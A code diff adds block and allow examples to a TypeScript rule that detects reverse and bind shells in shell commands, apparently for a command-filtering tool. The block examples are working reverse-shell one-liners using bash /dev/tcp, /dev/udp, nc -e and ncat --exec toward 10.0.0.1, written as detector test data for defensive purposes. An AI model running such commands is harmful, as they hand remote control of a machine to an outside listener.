@@ -15,6 +15,19 @@ export default defineRule({
       "Blocks reverse and bind shells: a shell redirected to /dev/tcp, nc -e, socat exec:, a shell piped into nc, interpreter socket shells.",
     defaultAction: "block",
     kinds: ["shell"],
+    examples: () => ({
+      block: [
+        { shell: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
+        { shell: "sh -i >& /dev/udp/10.0.0.1/53 0>&1" },
+        { shell: "nc -e /bin/sh 10.0.0.1 4444" },
+        { shell: "ncat --exec /bin/bash 10.0.0.1 4444" },
+      ],
+      allow: [
+        { shell: "nc -zv localhost 5432" },
+        { shell: "cat < /dev/tcp/localhost/80" },
+        { shell: "socat - TCP:localhost:6379" },
+      ],
+    }),
   },
   check(call) {
     const analysis = shellOf(call);
